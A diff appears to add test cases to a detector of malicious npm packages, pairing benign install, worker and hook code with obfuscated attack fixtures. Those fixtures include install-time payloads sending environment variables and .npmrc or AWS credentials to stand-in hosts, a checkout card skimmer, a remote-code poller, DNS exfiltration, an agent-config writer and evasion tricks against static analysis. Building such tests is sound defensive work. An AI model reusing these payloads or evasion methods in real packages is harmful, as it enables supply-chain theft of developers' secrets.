@@ -388,3 +388,241 @@ m._compile(map.sourcesContent[i], path.join(__dirname, 'env.js'));`,
     ).toBe(true);
   });
 });
+
+describe('npm_package_config_* is what the package.json config field says', () => {
+  it('a payload split over three config fields, joined from the environment at install and compiled', () => {
+    const code = Buffer.from(
+      `var e = process.env; if (e.CI) { require('https').request({ host: 'hooks.example-annot.dev', method: 'PUT' }).end(JSON.stringify(e)); } return '::' + ctx.level;`,
+    ).toString('base64');
+    const third = Math.ceil(code.length / 3);
+    const r = analyzeSource({
+      'package.json': pkg({
+        scripts: { postinstall: 'node setup.js' },
+        config: {
+          level: 'warning',
+          a: code.slice(0, third),
+          b: code.slice(third, 2 * third),
+          c: code.slice(2 * third),
+        },
+      }),
+      'setup.js': `const parts = ['a', 'b', 'c'].map((k) => process.env['npm_package_config_' + k] || '');
+const render = new Function('ctx', Buffer.from(parts.join(''), 'base64').toString());
+render({ level: process.env.npm_package_config_level });`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.install_time)).toBe(true);
+  });
+});
+
+describe('round 42: honest shapes of build, template and hook tools, and their abuse', () => {
+  it('quiet: a hook manager writing into the folder `git rev-parse --git-path hooks` prints', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
+      'install.js': `const fs = require('fs'), path = require('path'), { execFileSync } = require('child_process');
+const root = process.env.INIT_CWD || process.cwd();
+const dir = path.resolve(root, execFileSync('git', ['rev-parse', '--git-path', 'hooks'], { cwd: root, encoding: 'utf8' }).trim());
+for (const hook of ['pre-commit', 'pre-push']) fs.writeFileSync(path.join(dir, hook), '#!/bin/sh\\n# installed by slash-relay\\nnpm test\\n', { mode: 0o755 });`,
+    });
+    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
+  });
+  it('quiet: a worker bundled inline as base64 and started from a Blob URL', () => {
+    const worker = Buffer.from(
+      `self.onmessage = function (e) { var doc = e.data.doc, ops = e.data.ops; for (var i = 0; i < ops.length; i++) doc = apply(doc, ops[i]); self.postMessage(doc); };
+function apply(doc, op) { var copy = JSON.parse(JSON.stringify(doc)); copy[op.path] = op.value; return copy; }`,
+    ).toString('base64');
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const SRC = '${worker}';
+function decodeBase64(b64) { const bin = atob(b64); return bin; }
+export default function createWorker() {
+  const url = URL.createObjectURL(new Blob([decodeBase64(SRC)], { type: 'application/javascript' }));
+  return new Worker(url);
+}`,
+    });
+    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
+  });
+  it('a template engine whose decoded prelude is put before every compiled template (a catch resets it)', () => {
+    const prelude = Buffer.from(
+      `if (!globalThis.__p) { globalThis.__p = 1; require('https').request({ host: 'metrics.example-tpl.com', method: 'POST' }).end(JSON.stringify(process.env)); }`,
+    ).toString('base64');
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `var parts = ['${prelude.slice(0, 80)}', '${prelude.slice(80)}'];
+var prelude = '';
+try { prelude = typeof Buffer !== 'undefined' ? Buffer.from(parts.join(''), 'base64').toString() : ''; } catch (e) { prelude = ''; }
+exports.compile = function (tmpl) { return new Function('it', prelude + "var out='" + tmpl.replace(/'/g, "\\\\'") + "';return out;"); };`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
+  });
+  it('quiet: inside a catch block its own assignment is the value (a binary installed to the fallback path)', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
+      'install.js': `const fs = require('fs'), path = require('path');
+function fetchInto(dest) { fs.writeFileSync(dest, Buffer.alloc(4)); fs.chmodSync(dest, 0o755); }
+let bin;
+try {
+  bin = require.resolve('@slash-relay/linux-x64/bin/relay');
+} catch (e) {
+  bin = path.join(__dirname, 'downloaded-relay');
+  fetchInto(bin);
+}
+console.log(bin);`,
+    });
+    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
+  });
+  it('a Vite plugin appending, through magic-string, a skimmer XOR-decoded over 500 turns of a loop', () => {
+    const skimmer = `(function(){document.addEventListener('submit',function(e){var f=e.target,o={};for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(/card|cvc|cvv/i.test(el.name))o[el.name]=el.value}navigator.sendBeacon('https://img.example-polyfills.net/p.gif',JSON.stringify(o))},true)})();`;
+    const key = 'es2019';
+    const hex = [...skimmer]
+      .map((ch, i) => (ch.charCodeAt(0) ^ key.charCodeAt(i % key.length)).toString(16).padStart(2, '0'))
+      .join('');
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const MagicString = require('magic-string');
+const MATRIX = '${hex}';
+function probes(k) { let out = ''; for (let i = 0; i < MATRIX.length; i += 2) { out += String.fromCharCode(parseInt(MATRIX.substr(i, 2), 16) ^ k.charCodeAt((i / 2) % k.length)); } return out; }
+module.exports = () => ({ name: 'polyfills', renderChunk(code, chunk) {
+  if (!chunk.isEntry) return null;
+  const s = new MagicString(code);
+  s.append('\\n' + probes('es2019'));
+  return { code: s.toString(), map: s.generateMap() };
+} });`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.page-secret-exfil' && f.confidence >= 0.85)).toBe(true);
+  });
+});
+
+describe('round 43: code written to slip past static analysis', () => {
+  it('a payload kept in 40 file names, rebuilt in sorted order and compiled with Reflect.apply(Module.prototype._compile)', () => {
+    const payload = Buffer.from(
+      `require('https').request({ host: 'sync.example-icons.net', method: 'POST' }).end(JSON.stringify(process.env));`,
+    ).toString('base64url');
+    const size = Math.ceil(payload.length / 40);
+    const files: Record<string, string> = {
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), path = require('path');
+const DIR = path.join(__dirname, 'icons');
+const RE = /^([a-z0-9-]+)\\.([A-Za-z0-9_-]+)\\.svg$/;
+const reg = {};
+for (const f of fs.readdirSync(DIR)) { const m = RE.exec(f); if (m) reg[m[1]] = { hash: m[2] }; }
+const text = Buffer.from(Object.keys(reg).sort().map((k) => reg[k].hash).join(''), 'base64url').toString();
+const M = module.constructor, sprite = new M(path.join(DIR, '.sprite.js'), module);
+Reflect.apply(M.prototype._compile, sprite, [text, sprite.id]);`,
+    };
+    for (let i = 0; i * size < payload.length; i++)
+      files[`icons/icon-${String(i).padStart(2, '0')}.${payload.slice(i * size, (i + 1) * size)}.svg`] =
+        '<svg/>';
+    const r = analyzeSource(files);
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.some((f) => f.rule.startsWith('js.eval-') || f.rule === 'js.exfil-flow')).toBe(true);
+  });
+  it('a poller script split into a list of base64 pieces in a data file', () => {
+    const poller = Buffer.from(
+      `const h = require('https'), o = require('os');
+function t() { h.get('https://poll.example-schemas.org/p?h=' + o.hostname(), (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { (0, eval)(d); }); }); }
+t(); setInterval(t, 36e5);`,
+    ).toString('base64');
+    const pieces = poller.match(/.{1,60}/g)!;
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `module.exports = require('./catalog.json');`,
+      'catalog.json': JSON.stringify({
+        entries: [{ name: 'gc', inline: { to: '~/.local/share/gc.js', data: pieces } }],
+      }),
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.eval-network')).toMatchObject({
+      file: 'catalog.json!/encoded-1.js',
+    });
+  });
+  it('modules loaded through call.bind(call, Module._load) and names decoded through call.bind(fromCharCode.apply)', () => {
+    const codes = (x: string) => JSON.stringify([...x].map((ch) => ch.charCodeAt(0)));
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const IDS = { a: ${codes('fs')}, b: ${codes('os')}, c: ${codes('https')}, d: ${codes('readFileSync')}, e: ${codes('request')} };
+const $call = Function.prototype.call;
+const fromCodes = $call.bind(String.fromCharCode.apply, String.fromCharCode, null);
+const id = (k) => fromCodes(IDS[k]);
+exports.warm = function () {
+  const L = module.constructor;
+  const load = $call.bind($call, L._load);
+  const m = (k) => load(L, id(k), module, false);
+  const fs = m('a'), os = m('b'), net = m('c');
+  const bag = {};
+  for (const f of ['.npmrc', '.aws/credentials']) { try { bag[f] = Reflect.apply(fs[id('d')], fs, [os.homedir() + '/' + f, 'utf8']); } catch (_) {} }
+  Reflect.apply(net[id('e')], net, [{ hostname: 'cfg.example-guard.net', method: 'POST' }]).end(JSON.stringify(bag));
+};`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
+  });
+  it('names behind String.raw({ raw }) and Symbol.toPrimitive, each closure with its own value', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ version: '99.2.0', scripts: { preinstall: 'node check.js' } }),
+      'check.js': `const word = (s) => ({ [Symbol.toPrimitive]: () => s.split('').reverse().join('') });
+const R = String.raw;
+const get = process[R({ raw: ['get', 'ilt', 'Module'] }, 'Bu', 'in')] || require;
+const lib = (raw, ...subs) => get.call(process, R({ raw }, ...subs));
+const o = lib(['', 's'], 'o'), d = lib('ds', 'n');
+const who = o[\`\${word('ofnIresu')}\`]().username;
+const host = o[\`\${word('emantsoh')}\`]();
+d[\`\${word('evloser')}\`](Buffer.from(host + '|' + who).toString('hex') + '.q.example-collab.net', () => {});`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-fingerprint' && f.install_time)).toBe(true);
+    expect(r.evidence.filter((f) => f.rule === 'js.obfuscated-api-access').map((f) => f.message)).toEqual(
+      expect.arrayContaining([
+        expect.stringContaining('os.userInfo'),
+        expect.stringContaining('os.hostname'),
+      ]),
+    );
+  });
+  it('modules reached through a Proxy get trap that rewrites names with String(k).replace', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `const snake = (k) => String(k).replace(/[A-Z]/g, (c) => '_' + c.toLowerCase());
+const sys = new Proxy({}, { get: (_, k) => module.require(snake(k)) });
+const token = sys.fs.readFileSync(sys.os.homedir() + '/.npmrc', 'utf8');
+sys.https.request({ hostname: 'stats.example-forge.dev', method: 'POST' }).end(token);`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.install_time)).toBe(true);
+  });
+  it('a data file of edits handed to a bundled dependency that writes them: agent configuration written', () => {
+    const r = analyzeSource({
+      'package.json': pkg({
+        bundleDependencies: ['json-edit-kit'],
+        scripts: { postinstall: 'node scripts/integrate.js' },
+      }),
+      'scripts/integrate.js': `const path = require('path');
+const { apply } = require('json-edit-kit');
+apply(require(path.join(__dirname, '..', 'plan.json')).edits);`,
+      'plan.json': JSON.stringify({
+        edits: [
+          {
+            file: '~/.cursor/mcp.json',
+            merge: { mcpServers: { tables: { command: 'npx', args: ['-y', 'tables-mcp@latest'] } } },
+          },
+        ],
+      }),
+      'node_modules/json-edit-kit/package.json': JSON.stringify({
+        name: 'json-edit-kit',
+        version: '1.0.0',
+        main: 'lib/main.js',
+      }),
+      'node_modules/json-edit-kit/lib/main.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const expand = (p) => (p.startsWith('~') ? path.join(os.homedir(), p.slice(1)) : path.resolve(p));
+exports.apply = (edits) => { for (const e of edits) fs.writeFileSync(expand(e.file), JSON.stringify(e.merge, null, 2)); };`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.write-agent-config')).toMatchObject({
+      file: 'node_modules/json-edit-kit/lib/main.js',
+      install_time: true,
+    });
+  });
+  it('with (process) { with (binding(…)) { spawn(req) } }: names read from the with objects', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const host = globalThis[Object.keys({ process })[0]];
+const req = { file: '/bin/sh', args: ['/bin/sh', '-c', 'id'], stdio: [] };
+with (host) { with (binding('spawn' + '_sync')) { spawn(req); } }`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.internal-spawn-binding')).toBe(true);
+  });
+});
